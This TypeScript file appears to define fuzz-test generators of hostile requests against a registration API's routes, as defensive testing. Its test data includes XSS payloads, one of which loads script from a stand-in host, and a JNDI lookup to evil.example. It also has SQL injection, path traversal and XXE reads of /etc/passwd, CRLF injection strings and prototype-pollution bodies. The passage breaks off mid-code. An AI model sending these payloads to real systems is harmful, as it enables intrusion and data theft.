/**
 * The fast-check arbitraries of the fuzz test (fuzz.test.ts): hostile strings, keys, headers,
 * bodies and paths, and from them one generator of requests per route. Each request is a `Spec`:
 * what attack.ts sends, with what the checker must know about it.
 */
import { brotliCompressSync, deflateSync, gzipSync } from 'node:zlib';
import fc from 'fast-check';
import { FIELD_NAMES } from '../../shared/fields.ts';
import type { AttackRequest } from './attack.ts';
import { cloudsuiteFields } from './contract/cloudsuite.ts';
import { hectareFields } from './contract/hectare.ts';
import { titeliveFields } from './contract/titelive.ts';
import { ORIGIN, intellectMoneyFields, nitroFields } from './harness.ts';

/** Requests per property run (one batch). */
export const BATCH = 20;

export const FLOWS = ['nitro', 'hectare', 'cloudsuite', 'intellectmoney', 'titelive'] as const;
export type FlowId = (typeof FLOWS)[number];

/** Fields each demo flow accepts and its simulator registers (fresh identities every call). */
export const VALID: Record<FlowId, () => Record<string, string>> = {
  nitro: () => nitroFields(),
  hectare: () => hectareFields(),
  cloudsuite: () => cloudsuiteFields(),
  intellectmoney: () => intellectMoneyFields(),
  titelive: () => titeliveFields(),
};

/** A generated request, with what the checker must additionally know about it. */
export interface Spec extends AttackRequest {
  kind: string;
  /** A registration the simulator accepts: anything but 201 is a failure. */
  valid?: boolean;
}

// ---- Strings ---------------------------------------------------------------------------------------

const XSS = [
  `<script>alert('fuzz')</script>`,
  `"><script src=//evil.example/x.js></script>`,
  `<ScRiPt>alert(1)</sCrIpT>`,
  `<img src=x onerror=alert(1)>`,
  `<svg onload=alert(1)>`,
  `javascript:alert(1)`,
];

const EDGE_STRINGS = [
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  '\u0007\u001b[2J',
  '\r\n\r\nX-Injected: 1',
  '\t',
  '\u202Egnp.exe',
  'admin\u202E\u2066x',
  '\u200B',
  'e\u200Dmail',
  '\uFEFFbom',
  '\u00AD',
  'e\u0301',
  'A\u030A',
  '\u00C5',
  '\uFB01',
  '\uFF21\uFF22\uFF23',
  '\u0130',
  '\u00DF',
  'Z\u0351\u0352\u0353\u0354a\u0356\u0357l\u0358g\u0359o',
  '\u{1F469}\u200D\u{1F469}\u200D\u{1F467}\u200D\u{1F466}',
  '\u{1F3F3}\uFE0F\u200D\u{1F308}',
  '\u{1D54F}',
  '\uD800',
  '\uDFFF',
  'a\uDC00b',
  '\uFFFE\uFFFF',
  '\u2028\u2029',
  '\u0645\u0631\u062D\u0628\u0627',
  '\u05E9\u05DC\u05D5\u05DD',
  '\u65E5\u672C\u8A9E',
  '\u041F\u0440\u0438\u0432\u0435\u0442',
  ...XSS,
  '"; DROP TABLE registrations; --',
  "' OR '1'='1",
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '%00',
  '%2e%2e%2f',
  'null',
  'undefined',
  'NaN',
  '1e309',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  '+44 20 7946 0958',
  'a@b.co',
  'user@[127.0.0.1]',
  '"a b"@example.com',
  'x@xn--80ak6aa92e.com',
  'http://x/y',
  'example.com.',
];

/** Around every field's maxLength (FIELD_SPECS) and well past it. */
const LENGTHS = [16, 17, 32, 33, 64, 65, 100, 101, 128, 129, 200, 201, 253, 254, 255, 256, 1000];

const loneSurrogate = fc.integer({ min: 0xd800, max: 0xdfff }).map((c) => String.fromCharCode(c));

const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...EDGE_STRINGS) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
  {
    weight: 1,
    arbitrary: fc
      .array(
        fc.oneof(loneSurrogate, fc.constantFrom('a', '\u0301', '\u202E', '\u0000', '\u{1F600}')),
        {
          maxLength: 12,
        },
      )
      .map((a) => a.join('')),
  },
  {
    weight: 1,
    arbitrary: fc
      .tuple(
        fc.constantFrom('x', '\u00E9', '\u{1F600}', ' ', '\u0000'),
        fc.constantFrom(...LENGTHS),
      )
      .map(([c, n]) => c.repeat(n)),
  },
  {
    weight: 1,
    arbitrary: fc
      .tuple(fc.constantFrom(...EDGE_STRINGS), fc.constantFrom(...EDGE_STRINGS))
      .map(([a, b]) => a + b),
  },
);

const PROTO_KEYS = ['__proto__', 'constructor', 'prototype'] as const;

const hostileKey = fc.oneof(
  fc.constantFrom(
    ...PROTO_KEYS,
    ...FIELD_NAMES,
    'EMAIL',
    'email ',
    ' email',
    'e\u200Bmail',
    '\u0435mail',
    'fields',
    'hostValues',
    'utm',
    'consent',
    'locale',
    'leadComment',
    'utm_source',
    'hp',
    'formToken',
    'captchaToken',
    '',
  ),
  hostileString,
);

const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: hostileString },
  { weight: 2, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
  {
    weight: 1,
    arbitrary: fc.constantFrom(null, true, false, 0, -0, 1e308, -1, 0.5, [], {}, [''], {
      $gt: '',
    }),
  },
  { weight: 1, arbitrary: fc.double() },
);

/**
 * Percent-encodes every UTF-8 byte but unreserved ones: always a valid escape sequence. At most
 * 300 code points, cut before encoding (never inside an escape or a character), so that path
 * and query stay below Node's 16 KiB header limit even for 4-byte characters.
 */
function pct(value: string): string {
  let out = '';
  for (const byte of Buffer.from(Array.from(value).slice(0, 300).join(''), 'utf8')) {
    const c = String.fromCharCode(byte);
    out += /[A-Za-z0-9\-._~]/.test(c) ? c : `%${byte.toString(16).toUpperCase().padStart(2, '0')}`;
  }
  return out;
}

/**
 * A path segment an attacker would try. Every percent-escape in it is well-formed: a malformed
 * one in a route parameter is the known bug at the end of this file, fuzzed on its own there.
 */
const hostileSegment: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: hostileString.map(pct) },
  {
    weight: 3,
    arbitrary: fc.constantFrom(
      '.',
      '..',
      '%2e%2e',
      '%2E',
      '%2F',
      'a%2Fb',
      '%5C',
      '%00',
      'nitro%00',
      '%25',
      '%2525',
      '%20',
      '%0d%0aSet-Cookie:%20x=1',
      '~',
      '*',
      ';',
      'nitro;x=1',
      'nitro.json',
      'nitro%20',
      'NITRO',
      'Nitro',
      '%6Eitro',
      '__proto__',
      'constructor',
      'prototype',
      'hasOwnProperty',
      '<script>alert(1)</script>',
      '%3Cscript%3Ealert(1)%3C%2Fscript%3E',
      '@',
      '$',
      '!',
      "'",
      '(',
      ':',
      ',',
    ),
  },
  { weight: 1, arbitrary: fc.integer({ min: 256, max: 4_000 }).map((n) => 'a'.repeat(n)) },
);

/** Header values undici will send: tab, printable ASCII and Latin-1 (see attack.ts). */
const headerChar = fc
  .oneof(fc.integer({ min: 0x20, max: 0x7e }), fc.integer({ min: 0xa0, max: 0xff }), fc.constant(9))
  .map((c) => String.fromCharCode(c));
const headerString = (maxLength: number) => fc.string({ unit: headerChar, maxLength });

const HOSTILE_ORIGINS = [
  'null',
  'NULL',
  'http://LOCALHOST:5173',
  'HTTP://localhost:5173',
  'http://localhost:5173/',
  'http://localhost:5173/path',
  'http://localhost',
  'http://localhost:0',
  'http://localhost:65535',
  'http://localhost:65536',
  'http://localhost:99999',
  'http://localhost:-1',
  'https://localhost:5173',
  'ftp://localhost:5173',
  'file://',
  'file:///etc/passwd',
  'chrome-extension://abcdefghijklmnop',
  'javascript:alert(1)',
  "data:text/html,<script>alert('fuzz')</script>",
  'http://localhost.evil.example',
  'http://evil.example#@localhost:5173',
  'http://localhost:5173@evil.example',
  'http://user:pass@localhost:5173',
  'http://xn--80ak6aa92e.com',
  'http://b\u00FCcher.example',
  'http://[::1]:5173',
  'http://[::ffff:127.0.0.1]:5173',
  'http://0x7f.0.0.1:5173',
  'http://2130706433:5173',
  'http://127.1:5173',
  'http://localhost:5173, http://evil.example',
  ' http://localhost:5173',
  'http://localhost:5173\t',
  'http://*.localhost:5173',
  'http://localhost:*',
  '*',
  '',
];

const originHeader: fc.Arbitrary<string | undefined> = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(undefined, ORIGIN, 'http://127.0.0.1:9') },
  { weight: 3, arbitrary: fc.constantFrom(...HOSTILE_ORIGINS) },
  { weight: 1, arbitrary: headerString(60) },
);

const idempotencyKey: fc.Arbitrary<string | undefined> = fc.oneof(
  { weight: 8, arbitrary: fc.uuid() },
  { weight: 1, arbitrary: fc.constant(undefined) },
  {
    weight: 1,
    arbitrary: fc.constantFrom('fuzz-shared-key', 'k', '', ' ', 'a b', 'x'.repeat(255)),
  },
  { weight: 2, arbitrary: headerString(300) },
  {
    weight: 1,
    arbitrary: fc
      .tuple(fc.integer({ min: 254, max: 8_000 }), fc.constantFrom('k', '\u00E9', '!'))
      .map(([n, c]) => c.repeat(n)),
  },
);

const requestId = fc.oneof(
  fc.constantFrom(
    'trace-123',
    `<script>alert('fuzz')</script>`,
    'x'.repeat(129),
    '../../etc/passwd',
    'id\u00E9',
    '',
    ' ',
    '\t',
    'a:b.c-d_e',
  ),
  headerString(200),
);

/** Headers every request may carry besides its route's own. */
const commonHeaders: fc.Arbitrary<Record<string, string>> = fc
  .record(
    {
      origin: originHeader,
      'x-request-id': requestId,
      'sec-fetch-mode': fc.constantFrom('cors', 'navigate', 'no-cors', 'same-origin'),
      'sec-fetch-site': fc.constantFrom('cross-site', 'same-origin', 'none'),
      'x-forwarded-for': fc.constantFrom('1.2.3.4', '127.0.0.1, 10.0.0.1', 'unknown', '::1'),
      'x-forwarded-proto': fc.constantFrom('https', 'javascript'),
      accept: fc.constantFrom('*/*', 'text/html', 'application/json', 'application/xml', ''),
      'accept-language': fc.constantFrom('en', 'ru-RU,ru;q=0.9', '*', 'xx-\u00E9'),
      cookie: fc.constantFrom('session=abc', '__proto__=x', 'a=' + 'b'.repeat(1000)),
      'user-agent': headerString(100),
      'x-http-method-override': fc.constantFrom('DELETE', 'PUT', 'GET'),
    },
    { requiredKeys: [] },
  )
  .map(
    (h) =>
      Object.fromEntries(Object.entries(h).filter(([, v]) => v !== undefined)) as Record<
        string,
        string
      >,
  );

const merge = (...parts: (Record<string, string | undefined> | undefined)[]) =>
  Object.fromEntries(
    parts.flatMap((p) => Object.entries(p ?? {})).filter(([, v]) => v !== undefined),
  ) as Record<string, string>;

// ---- Bodies ------------------------------------------------------------------------------------------

const JSON_TYPES = [
  'application/json',
  'application/json; charset=utf-8',
  'APPLICATION/JSON',
  'application/json;charset="UTF-8"',
  'application/json; boundary=x; foo=bar',
];
const HOSTILE_TYPES = [
  'application/json; charset=utf-16',
  'application/json; charset=utf-32',
  'application/json; charset=latin1',
  'application/json; charset=nope',
  'application/json; charset',
  'application/json;;',
  'application/problem+json',
  'application/vnd.api+json',
  'application/json-patch+json',
  'text/json',
  'text/plain',
  'text/html',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=----fuzz',
  'multipart/form-data',
  'application/xml',
  'application/octet-stream',
  'application/json, text/plain',
  '*/*',
  'application/*',
  'json',
  '',
  ' ',
  'application/json\u00E9',
];
const contentType: fc.Arbitrary<string | undefined> = fc.oneof(
  { weight: 12, arbitrary: fc.constantFrom(...JSON_TYPES) },
  { weight: 4, arbitrary: fc.constantFrom(...HOSTILE_TYPES) },
  { weight: 1, arbitrary: fc.constant(undefined) },
  { weight: 1, arbitrary: headerString(60) },
);

const MALFORMED_JSON = [
  '{',
  '{"fields":',
  '{"fields":{}',
  '{"fields":{},}',
  "{'fields':{}}",
  '{"fields":{"name":NaN}}',
  '{"fields":{"name":Infinity}}',
  '{"fields":{"name":undefined}}',
  '{fields:{}}',
  '{"fields":{}} trailing',
  '{"fields":{}}{"fields":{}}',
  '/* comment */{"fields":{}}',
  '\uFEFF{"fields":{}}',
  '{"fields":{"a":"\\x41"}}',
  '{"fields":{"a":"\\u12"}}',
  '{"fields":{"a":"\u0000"}}',
  '{"fields":{"a":"\n"}}',
  '"\\ud800"',
  '01',
  '-',
  '[',
  ']',
  '',
  ' ',
  'null',
  'true',
  '0',
  '"fields"',
  '[]',
  '[{"fields":{}}]',
  '1e999999',
  '{"fields":{"email":"a@b.co","email":"c@d.co"}}',
  '{"fields":{}}\u0000',
  '{"fields":{"name":"x"}}\r\n\r\nGET /admin/outbox HTTP/1.1',
];

const NON_JSON: (string | Buffer)[] = [
  'email=a%40b.co&name=x&__proto__[admin]=1',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  '------fuzz\r\nContent-Disposition: form-data; name="fields"\r\n\r\n{}\r\n------fuzz--\r\n',
  Buffer.concat([
    Buffer.from('{"fields":{"name":"'),
    Buffer.from([0xc3, 0x28, 0xff, 0xfe, 0xed, 0xa0, 0x80, 0xc0, 0xae]),
    Buffer.from('"}}'),
  ]),
  Buffer.from('{"fields":{"name":"x"}}', 'utf16le'),
  Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('{"fields":{}}', 'utf16le')]),
  Buffer.from([0x1f, 0x8b, 0x08, 0x00]),
];

/**
 * The JSON text of a request whose keys try to reach a prototype (built by hand: a JS object
 * literal with "__proto__" would set its prototype instead of carrying the key).
 */
const protoBody = fc
  .tuple(
    fc.constantFrom(...PROTO_KEYS),
    fc.constantFrom('polluted', 'email', 'isAdmin', 'status', 'toString', 'fields'),
    hostileValue,
    fc.constantFrom(...FLOWS),
    fc.integer({ min: 0, max: 7 }),
  )
  .map(([key, inner, value, flow, template]) => {
    const v = JSON.stringify(value) ?? 'null';
    const fields = JSON.stringify(VALID[flow]());
    return [
      `{"${key}":{"${inner}":${v}},"fields":{}}`,
      `{"fields":{"${key}":{"${inner}":${v}}}}`,
      `{"fields":${fields.slice(0, -1)},"${key}":{"${inner}":${v}}}}`,
      `{"fields":{"${key}":{"prototype":{"${inner}":${v}}}}}`,
      `{"fields":{},"hostValues":{"${key}":${v}},"utm":{"${key}":{"${inner}":1}}}`,
      `{"${key}":{"${key}":{"${inner}":${v}}}}`,
      `{"fields":${fields},"constructor":{"prototype":{"${inner}":${v}}}}`,
      `[{"${key}":{"${inner}":${v}}}]`,
    ][template]!;
  });

/** Nesting far deeper than any schema, within and past the 16 kB limit, closed or not. */
const deepBody = fc
  .tuple(
    fc.integer({ min: 10, max: 12_000 }),
    fc.constantFrom('[', '{"a":'),
    fc.boolean(),
    fc.boolean(),
  )
  .map(([depth, open, closed, enveloped]) => {
    const deep =
      open.repeat(depth) + '1' + (closed ? (open === '[' ? ']' : '}').repeat(depth) : '');
    return enveloped ? `{"fields":{"name":${deep}}}` : deep;
  });

/** Sizes around body-parser's 16 kB limit (16,384 bytes) and well past it. */
const hugeBody = fc
  .tuple(fc.integer({ min: 0, max: 4 }), fc.integer({ min: -80, max: 80 }))
  .map(([shape, delta]) => {
    const limit = 16_384;
    switch (shape) {
      case 0: // one long ASCII value; the envelope is 22 bytes
        return `{"fields":{"name":"${'x'.repeat(limit - 22 + delta)}"}}`;
      case 1: // two-byte characters: fewer characters than bytes
        return `{"fields":{"name":"${'\u00E9'.repeat((limit - 22 + delta) >> 1)}"}}`;
      case 2: // a long array of small numbers
        return `{"fields":{"name":[${'1,'.repeat((limit >> 1) - 12 + delta)}1]}}`;
      case 3: // thousands of keys
        return `{"fields":{${Array.from({ length: 1_200 + delta * 10 }, (_, i) => `"k${i}":1`).join(',')}}}`;
      default: // far past the limit
        return `{"fields":{"name":"${'x'.repeat(200_000 + delta)}"}}`;
    }
  });

/** Shaped like the descriptor's signed form token (`<13 digits>.<43 base64url>`), not signed. */
const formTokenLike = fc
  .tuple(
    fc.integer({ min: 0, max: 9_999_999_999_999 }),
    fc.base64String({ minLength: 44, maxLength: 44 }),
  )
  .map(
    ([t, sig]) =>
      `${String(t).padStart(13, '0')}.${sig.slice(0, 43).replace(/\+/g, '-').replace(/\//g, '_')}`,
  );

/** `?locale=` preference lists: many, long, repeated, odd tags. */
const localeList = fc.oneof(
  fc
    .array(
      fc.constantFrom(
        'de-CH',
        'de',
        'en',
        'RU-ru',
        '*',
        '',
        'x'.repeat(100),
        '__proto__',
        'toString',
        'constructor',
        'zz-ZZ',
        '-',
        'en-',
        '%E2%80%AE',
      ),
      { maxLength: 40 },
    )
    .map((tags) => tags.join(',')),
  fc.constantFrom('de&locale=fr', ','.repeat(3_000), 'en;q=0.9'),
);

/** A registration envelope with every key, and the keys around it, of hostile content. */
const envelope = fc
  .record(
    {
      fields: fc.oneof(fc.dictionary(hostileKey, hostileValue, { maxKeys: 8 }), hostileValue),
      hostValues: fc.oneof(fc.dictionary(hostileKey, hostileValue, { maxKeys: 3 }), hostileValue),
      utm: fc.oneof(fc.dictionary(hostileKey, hostileValue, { maxKeys: 3 }), hostileValue),
      consent: hostileValue,
      locale: fc.oneof(hostileString, fc.constantFrom('en', 'ru', 'nl', 'en-GB', 'x'.repeat(36))),
      admin: hostileValue,
      // The bot checks' keys: a filled honeypot is answered with a fake success.
      hp: fc.oneof(hostileString, hostileValue),
      formToken: fc.oneof(hostileString, formTokenLike),
      captchaToken: fc.oneof(hostileString, hostileValue),
    },
    { requiredKeys: [] },
  )
  .map((v) => JSON.stringify(v));

/**
 * The real flows' fields with one of them wrong: a wrong type, a hostile or missing value, or
 * a plausible value the provider itself refuses (a duplicate, a bad VAT or INN…).
 */
const PLAUSIBLY_WRONG: Record<FlowId, Record<string, string>[]> = {
  nitro: [{ domain: 'localhost' }, { phone: '+1 202 555 0100' }, { email: 'a@b.co' }],
  hectare: [{ companyNumber: 'ABC' }, { country: 'DE' }, { country: 'XX' }, { zip: '!!!' }],
  cloudsuite: [{ vat: 'NL1' }, { country: 'ZZ' }, { houseNumber: 'abc' }, { zip: '?' }],
  intellectmoney: [{ inn: '7707083894' }, { inn: '0000000000' }, { inviteCode: '\u0000' }],
  titelive: [
    { email: 'customer@titelive.sandbox' },
    { login: 'sandbox-customer' },
    { password: 'x' },
    { password: '\u0000'.repeat(128) },
  ],
};
const wrongFields = fc
  .tuple(
    fc.constantFrom(...FLOWS),
    fc.nat(),
    fc.oneof(
      hostileValue.map((v) => ({ set: v })),
      fc.constant({ drop: true }),
      fc.nat().map((i) => ({ plausible: i })),
    ),
  )
  .map(([flow, i, change]) => {
    const fields: Record<string, unknown> = VALID[flow]();
    const names = Object.keys(fields);
    const name = names[i % names.length]!;
    if ('set' in change) fields[name] = change.set;
    else if ('drop' in change) delete fields[name];
    else
      Object.assign(fields, PLAUSIBLY_WRONG[flow][change.plausible % PLAUSIBLY_WRONG[flow].length]);
    return { flow, body: JSON.stringify({ fields }) };
  });

const anyBody: fc.Arbitrary<string | Buffer> = fc.oneof(
  { weight: 4, arbitrary: envelope },
  { weight: 3, arbitrary: wrongFields.map((w) => w.body) },
  { weight: 2, arbitrary: protoBody },
  { weight: 2, arbitrary: fc.jsonValue().map((v) => JSON.stringify(v)) },
  { weight: 2, arbitrary: fc.constantFrom(...MALFORMED_JSON) },
  {
    weight: 1,
    arbitrary: fc.tuple(fc.json(), fc.nat()).map(([j, n]) => j.slice(0, n % (j.length + 1))),
  },
  { weight: 1, arbitrary: deepBody },
  { weight: 1, arbitrary: hugeBody },
  { weight: 1, arbitrary: fc.constantFrom(...NON_JSON) },
  { weight: 1, arbitrary: fc.uint8Array({ maxLength: 2_048 }).map((b) => Buffer.from(b)) },
);

/** Well-formed compression of the body (a corrupt one was a bug: see api-regressions.test.ts). */
const encoding = fc.oneof(
  { weight: 12, arbitrary: fc.constant(undefined) },
  { weight: 1, arbitrary: fc.constantFrom('gzip', 'deflate', 'br', 'identity', 'GZIP') },
);
function encoded(body: string | Buffer | undefined, how: string | undefined) {
  if (body === undefined || how === undefined || how === 'identity') return body;
  const bytes = Buffer.isBuffer(body) ? body : Buffer.from(body);
  if (how.toLowerCase() === 'gzip') return gzipSync(bytes);
  if (how === 'deflate') return deflateSync(bytes);
  return brotliCompressSync(bytes);
}

/** A body with its content type and encoding headers. */
const bodyWithHeaders = fc
  .tuple(fc.option(anyBody, { freq: 8, nil: undefined }), contentType, encoding)
  .map(([body, type, how]) => ({
    body: encoded(body, how),
    // Content-Encoding only with a body: an empty "gzip" body is the same known bug.
    headers: merge({
      'content-type': type,
      'content-encoding': body === undefined ? undefined : how,
    }),
  }));

const METHODS = ['GET', 'POST', 'PUT', 'PATCH', 'DELETE', 'HEAD', 'OPTIONS', 'TRACE'] as const;
const withQuery = (path: string) =>
  fc.oneof(
    { weight: 4, arbitrary: fc.constant(path) },
    {
      weight: 1,
      arbitrary: fc
        .tuple(hostileKey, hostileString)
        .map(([k, v]) => `${path}?${pct(k)}=${pct(v)}&__proto__[polluted]=1&a=%ZZ`),
    },
    // Raw < > " in the query, as a link would carry them (spaces are not sendable raw).
    {
      weight: 1,
      arbitrary: fc.constantFrom(...XSS).map((x) => `${path}?q=${x.replace(/ /g, '%20')}`),
    },
  );

// ---- Requests per route ---------------------------------------------------------------------------

const flowSegment = fc.oneof(
  { weight: 5, arbitrary: fc.constantFrom<string>(...FLOWS) },
  { weight: 2, arbitrary: hostileSegment },
);

export const descriptorRequest: fc.Arbitrary<Spec> = fc
  .tuple(
    fc.constantFrom('GET', 'GET', 'GET', 'GET', 'HEAD', 'POST', 'DELETE'),
    fc.oneof(
      { weight: 3, arbitrary: flowSegment.chain((f) => withQuery(`/v1/flows/${f}`)) },
      {
        weight: 1,
        arbitrary: fc
          .tuple(fc.constantFrom<string>(...FLOWS), fc.oneof(hostileString.map(pct), localeList))
          .map(([f, locale]) => `/v1/flows/${f}?locale=${locale}`),
      },
    ),
    commonHeaders,
    fc.option(bodyWithHeaders, { freq: 4, nil: undefined }),
  )
  .map(([method, path, headers, body]) => ({
    kind: 'descriptor',
    method,
    path,
    headers: merge(headers, body?.headers),
    body: method === 'GET' || method === 'HEAD' ? undefined : body?.body,
  }));

export const preflightRequest = (ids: string[]): fc.Arbitrary<Spec> =>
  fc
    .tuple(
      fc.oneof(
        flowSegment.map((f) => `/v1/flows/${f}`),
        flowSegment.map((f) => `/v1/flows/${f}/registrations`),
        fc.constantFrom(...ids).map((id) => `/v1/registrations/${id}`),
        fc.constantFrom(...ids).map((id) => `/v1/registrations/${id}/verify`),
        fc.constantFrom(...ids).map((id) => `/v1/registrations/${id}/resend`),
        fc.constantFrom('/healthz', '/admin/approvals', '/widget/org-signup.js', '/'),
      ),
      originHeader,
      fc.constantFrom('POST', 'GET', 'PUT', 'DELETE', 'post', 'X-EVIL', ''),
      fc.oneof(
        fc.constantFrom(
          'content-type, idempotency-key',
          'content-type, idempotency-key, x-request-id',
          'authorization',
          'x-evil, cookie',
          '',
        ),
        headerString(80),
      ),
    )
    .map(([path, origin, method, requested]) => ({
      kind: 'preflight',
      method: 'OPTIONS',
      path,
      headers: merge({
        origin,
        'access-control-request-method': method,
        'access-control-request-headers': requested,
      }),
    }));

/** A registration the flow's simulator accepts, with allowed but odd extras. */
const validRegistration: fc.Arbitrary<Spec> = fc
  .tuple(
    fc.constantFrom(...FLOWS),
    fc.constantFrom(undefined, ORIGIN, 'http://127.0.0.1:41234', 'HTTP://LOCALHOST:5173'),
    fc.record(
      {
        consent: fc.boolean(),
        locale: fc.constantFrom('en', 'ru', 'nl', 'en-GB', 'zh-Hant-TW'),
        hp: fc.constant(''),
        formToken: formTokenLike,
        utm: fc.record(
          {
            utm_source: fc.string({ unit: 'grapheme', maxLength: 60 }),
            utm_campaign: fc.constantFrom(...XSS, '\u202Espring', ''),
          },
          { requiredKeys: [] },
        ),
      },
      { requiredKeys: [] },
    ),
    fc.constantFrom(...JSON_TYPES),
  )
  .map(([flow, origin, extras, type]) => {
    const body: Record<string, unknown> = { fields: VALID[flow](), ...extras };
    if (flow === 'intellectmoney') {
      body['hostValues'] = { leadComment: '<b>hi</b> \u202E', leadAttractor: 'fuzz' };
    }
    return {
      kind: `valid:${flow}`,
      valid: true,
      method: 'POST',
      path: `/v1/flows/${flow}/registrations`,
      headers: merge({
        origin,
        'content-type': type,
        'idempotency-key': `fuzz-valid-${crypto.randomUUID()}`,
      }),
      body: JSON.stringify(body),
    };
  });

const hostileRegistration: fc.Arbitrary<Spec> = fc
  .tuple(
    fc.oneof(
      { weight: 8, arbitrary: fc.constant('POST') },
      { weight: 1, arbitrary: fc.constantFrom(...METHODS) },
    ),
    fc.oneof(
      { weight: 10, arbitrary: fc.constantFrom<string>(...FLOWS) },
      { weight: 1, arbitrary: hostileSegment },
    ),
    fc.oneof(
      { weight: 12, arbitrary: fc.constant('') },
      { weight: 1, arbitrary: fc.constantFrom('/extra', '/', '%2F', '/..') },
    ),
    commonHeaders,
    idempotencyKey,
    bodyWithHeaders,
    // Mostly from an allowed page, so that the body gets past the Origin check and is read:
    // hostile origins are the descriptor and preflight properties' subject.
    fc.oneof(
      { weight: 3, arbitrary: fc.constant(true) },
      { weight: 1, arbitrary: fc.constant(false) },
    ),
  )
  .map(([method, flow, suffix, headers, key, body, allowed]) => ({
    kind: 'registration',
    method,
    path: `/v1/flows/${flow}/registrations${suffix}`,
    headers: merge(
      headers,
      allowed ? { origin: ORIGIN } : {},
      { 'idempotency-key': key },
      body.headers,
    ),
    body: method === 'GET' || method === 'HEAD' ? undefined : body.body,
  }));

export const registrationRequest = fc.oneof(
  { weight: 1, arbitrary: validRegistration },
  { weight: 24, arbitrary: hostileRegistration },
);

const verifyBody = (codes: string[]) =>
  fc
    .tuple(
      fc.oneof(
        fc.constantFrom<unknown>(...codes),
        fc.constantFrom<unknown>(
          '123456',
          '000000',
          ' 12 34 56 ',
          '12-34-56',
          123456,
          null,
          [],
          {},
          ['123456'],
          '\u0661\u0662\u0663\u0664\u0665\u0666',
          '\uFF11\uFF12\uFF13\uFF14\uFF15\uFF16',
          '1234567',
          '12345',
          '12345\u0000',
          '1e5',
        ),
        hostileValue,
      ),
      fc.option(fc.dictionary(hostileKey, hostileValue, { maxKeys: 2 }), { nil: undefined }),
    )
    .map(([code, extra]) => JSON.stringify({ ...extra, code }));

export const followUpRequest = (ids: string[], codes: string[]): fc.Arbitrary<Spec> => {
  const id = fc.oneof(
    { weight: 14, arbitrary: fc.constantFrom(...ids) },
    { weight: 1, arbitrary: fc.constantFrom(...ids).map((i) => i.toUpperCase()) },
    { weight: 1, arbitrary: fc.constantFrom(...ids).map((i) => `${i}%00`) },
    { weight: 1, arbitrary: fc.constantFrom(...ids).map((i) => `${i}%2Fverify`) },
    { weight: 1, arbitrary: fc.constantFrom(...ids).map((i) => ` ${i}`.replace(' ', '%20')) },
    { weight: 2, arbitrary: fc.uuid({ version: 4 }) },
    { weight: 3, arbitrary: hostileSegment },
  );
  return fc
    .tuple(
      fc.oneof(
        { weight: 8, arbitrary: fc.constant('POST') },
        { weight: 3, arbitrary: fc.constant('GET') },
        { weight: 1, arbitrary: fc.constantFrom(...METHODS) },
      ),
      id,
      fc.oneof(
        { weight: 8, arbitrary: fc.constantFrom('/verify', '/resend', '') },
        { weight: 1, arbitrary: fc.constantFrom('/', '/unknown', '/verify/x', '/resend/') },
      ),
      commonHeaders,
      fc.oneof(
        {
          weight: 3,
          arbitrary: verifyBody(codes).map((b) => ({
            body: b,
            headers: { 'content-type': 'application/json' },
          })),
        },
        { weight: 1, arbitrary: fc.constant({ body: undefined, headers: {} }) },
        { weight: 2, arbitrary: bodyWithHeaders },
      ),
    )
    .map(([method, rid, step, headers, body]) => ({
      kind: `follow-up${step}`,
      method,
      path: `/v1/registrations/${rid}${step}`,
      headers: merge(headers, body.headers),
      body: method === 'GET' || method === 'HEAD' ? undefined : body.body,
    }));
};

export const adminRequest = (
  keys: string[],
  failedIds: string[],
  /** The admin token the BFF was started with. */
  token: string,
): fc.Arbitrary<Spec> => {
  const key = fc.oneof(
    fc.constantFrom(...keys),
    fc.uuid(),
    hostileSegment,
    fc.constantFrom('SANDBOX', '5b0f3c1e-7d2a-4e8b-9c61-0a4d2f6e8b17'),
  );
  const id = fc.oneof(fc.constantFrom(...failedIds), fc.uuid(), hostileSegment);
  const path = fc.oneof(
    { weight: 1, arbitrary: fc.constant('/admin/approvals') },
    {
      weight: 2,
      arbitrary: withQuery('/admin/approvals').map((p) =>
        p.replace('/approvals', '/approvals?flow=nitro&'),
      ),
    },
    { weight: 3, arbitrary: key.map((k) => `/admin/approvals/${k}/approve`) },
    { weight: 2, arbitrary: key.map((k) => `/admin/approvals/${k}/reject`) },
    {
      weight: 3,
      arbitrary: fc
        .tuple(
          fc.constantFrom('status', 'flow', 'limit', 'unknown', '__proto__', 'status[]'),
          fc.oneof(
            hostileString,
            fc.constantFrom('failed', 'queued', 'completed', '0', '501', '-1', '1e3', 'NaN'),
          ),
        )
        .map(([k, v]) => `/admin/registrations?${pct(k)}=${pct(v)}&limit=2`),
    },
    { weight: 1, arbitrary: fc.constant('/admin/outbox') },
    { weight: 2, arbitrary: id.map((i) => `/admin/registrations/${i}/retry`) },
    {
      weight: 1,
      arbitrary: fc.constantFrom('/admin', '/admin/', '/admin/unknown', '/admin/../healthz'),
    },
  );
  const authorization = fc.oneof(
    { weight: 4, arbitrary: fc.constant(`Bearer ${token}`) },
    {
      weight: 4,
      arbitrary: fc.constantFrom(
        undefined,
        'Bearer',
        'Bearer ',
        'Bearer wrong',
        `Bearer ${token} `,
        `Bearer  ${token}`,
        `Bearer ${token.slice(0, -1)}`,
        `Bearer ${token}${token}`,
        `bearer ${token}`,
        `Basic ${Buffer.from(`admin:${token}`).toString('base64')}`,
        token,
        `Bearer ${'x'.repeat(8_000)}`,
      ),
    },
    { weight: 1, arbitrary: headerString(100).map((s) => `Bearer ${s}`) },
  );
  const approval = fc
    .record(
      {
        customer: fc.oneof(hostileString, fc.constant('5b0f3c1e-7d2a-4e8b-9c61-0a4d2f6e8b17')),
